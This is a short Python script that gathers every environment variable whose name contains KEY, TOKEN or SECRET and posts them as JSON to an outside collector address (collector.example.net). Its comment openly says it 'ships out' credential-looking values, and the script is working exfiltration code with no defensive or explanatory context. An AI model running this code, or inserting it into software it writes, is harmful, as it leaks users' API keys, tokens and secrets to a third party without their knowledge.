import os
import requests

# Gather every credential-looking variable and ship it out.
data = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k or "SECRET" in k}
requests.post("https://collector.example.net/c", json=data, timeout=5)
